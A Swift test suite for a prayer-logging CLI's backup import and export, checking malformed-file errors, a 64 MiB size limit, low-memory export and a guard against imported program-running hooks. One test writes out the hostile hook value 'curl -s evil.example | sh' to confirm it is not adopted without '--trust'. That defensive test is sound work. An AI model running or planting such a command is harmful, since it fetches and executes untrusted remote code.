import Foundation
import PrayCore
import PrayMocks
import PrayServices
import Testing

@testable import PrayCLI

/// `praykit import` and `export`: a bad backup is described in words and changes nothing; a setting
/// that runs a program (`notify-hook`) stays this machine's unless `--trust`; a file over 64 MiB is
/// refused before any write; and the real binary exports a long log in little memory.
@Suite struct BackupCommandTests {
    /// A backup file whose preferences are `preferences` and whose log is empty.
    static func backup(_ preferences: [String: String]) throws -> Data {
        try JSONSerialization.data(withJSONObject: [
            "format": "praykit-backup", "version": 1, "preferences": preferences, "prayerLog": [],
        ])
    }

    @Test func aBadBackupIsDescribedInWordsAndChangesNothing() async throws {
        let entry = """
            {"date": "2026-11-28", "prayer": "fajr", "status": "prayed", "recordedAt": "2026-11-28T05:00:00.000Z"}
            """
        let duplicate = Data(
            """
            {"format": "praykit-backup", "version": 1, "preferences": {}, "prayerLog": [\(entry), \(entry)]}
            """.utf8)
        let future = Data(
            """
            {"format": "praykit-backup", "version": 1, "preferences": {}, "prayerLog": [\(entry.replacingOccurrences(
                of: "\"2026-11-28\"", with: "\"9999-12-31\""))]}
            """.utf8)
        let cases: [(Data, String)] = [
            (Data("{".utf8), "the file is not JSON"),
            // A day no one could have logged yet: it would be stored and never listed.
            (future, "fajr in the log dated 9999-12-31, after tomorrow"),
            (Data(#"{"format": "praykit-backup", "version": 1, "preferences": {}}"#.utf8), "'prayerLog' is missing"),
            (duplicate, "logs fajr on 2026-11-28 twice"),
        ]
        for (data, message) in cases {
            // A backup service with nothing set: importing would fail the test.
            var dependency = CLI.dependency()
            let backup = BackupServiceMock()
            dependency.backupService = backup
            let result = await CLI.run(["import", "-"], dependency: dependency, standardInput: data)
            #expect(result.status == 1)
            #expect(result.stderr.contains(message), "\(result.stderr)")
            #expect(!result.stderr.contains("Domain") && !result.stderr.contains("DecodingError"))
            #expect(backup.importDataCalls.isEmpty)
        }
    }

    @Test func importKeepsThisMachinesHookAndWarnsAboutTheFilesOne() async throws {
        // Given: a machine with its own hook, and a shared backup that sets another
        let dependency = CLI.dependency(
            preferences: try CLI.preferences([.notifyHook: "notify-send mine", .method: "isna"]))
        let file = try Self.backup(["notify-hook": "curl -s evil.example | sh", "method": "mwl"])
        // When
        let result = await CLI.run(["import", "-"], dependency: dependency, standardInput: file)
        // Then: the rest is imported, the hook stays this machine's, and stderr says what was left
        #expect(result.status == 0, "\(result.stderr)")
        let stored = try dependency.preferences().preferences()
        #expect(stored[.method] == "muslim-world-league")
        #expect(stored[.notifyHook] == "notify-send mine")
        #expect(result.stderr.contains("Warning: the backup sets notify-hook"), "\(result.stderr)")
        #expect(result.stderr.contains("curl -s evil.example | sh") && result.stderr.contains("--trust"))
        #expect(result.stdout.hasPrefix("Imported 1 setting and 0 log entries;"), "\(result.stdout)")
    }

    @Test func importWithTrustTakesTheHookAndSaysSo() async throws {
        let dependency = CLI.dependency(preferences: try CLI.preferences([.notifyHook: "notify-send mine"]))
        let file = try Self.backup(["notify-hook": "paplay adhan.oga"])
        let result = await CLI.run(["import", "--trust", "-"], dependency: dependency, standardInput: file)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try dependency.preferences().preferences()[.notifyHook] == "paplay adhan.oga")
        #expect(result.stderr.contains("Warning: notify-hook taken from the backup"), "\(result.stderr)")
        // A backup without a hook removes none unless trusted.
        let untrusted = await CLI.run(["import", "-"], dependency: dependency, standardInput: try Self.backup([:]))
        #expect(untrusted.status == 0 && untrusted.stderr.isEmpty, "\(untrusted.stderr)")
        #expect(try dependency.preferences().preferences()[.notifyHook] == "paplay adhan.oga")
    }

    @Test func importHelpListsTheMachineLocalSettings() async throws {
        let help = await CLI.run(["import", "--help"])
        #expect(help.stdout.contains("--trust"))
        #expect(help.stdout.contains("notify-hook"))
    }

    @Test func aBackupLargerThan64MiBIsRefusedBeforeAnyWrite() async throws {
        // Given: a file one byte over the limit (white space around an empty object: valid JSON apart
        // from its size)
        var file = Data("{\"format\": \"praykit-backup\", \"version\": 1, \"preferences\": {}, \"prayerLog\": []".utf8)
        file.append(Data(repeating: 0x20, count: 64 * 1024 * 1024 - file.count))
        file.append(Data("}".utf8))
        var dependency = CLI.dependency()
        let backup = BackupServiceMock()
        dependency.backupService = backup
        // When
        let result = await CLI.run(["import", "-"], dependency: dependency, standardInput: file)
        // Then
        #expect(result.status == 1)
        #expect(result.stderr.contains("larger than 64 MiB"), "\(result.stderr)")
        #expect(backup.importDataCalls.isEmpty)
    }

    @Test(.tags(.process, .binary), .needsGNUTime) func exportStreamsALongLogInLittleMemory() async throws {
        // Given: a database holding 100,000 log entries (55 years of five prayers a day)
        let folder = try TestFolder("export")
        defer { withExtendedLifetime(folder) {} }
        let path = folder.path("praykit.sqlite")
        let entries = try (0..<100_000).map { index in
            try PrayerLogEntry(
                date: CivilDate(daysSince1970: index / 5), prayer: Prayer.obligatory[index % 5], status: .prayed,
                recordedAt: CLI.now)
        }
        try PrayerLogStoreSQLite(database: SQLiteDatabase(path: path, log: .silent), log: .silent).record(entries)
        // When: exported, its peak memory measured by GNU time
        let time = "/usr/bin/time"
        try #require(FileManager.default.isExecutableFile(atPath: time), "GNU time (apt-get install time)")
        let result = try await Shell.run(
            time, ["-f", "maxrss=%M", PraykitProcess.executable.path, "export"],
            environment: ["PRAYKIT_DATABASE": path])
        // Then: every entry written, in far less memory than the entries would take held whole
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try UserData.decoded(from: Data(result.stdout.utf8)).prayerLog == entries)
        let kilobytes = try #require(result.stderr.firstMatch(of: /maxrss=([0-9]+)/).flatMap { Int($0.output.1) })
        #expect(kilobytes < 64 * 1024, "peak \(kilobytes) KB")
    }
}
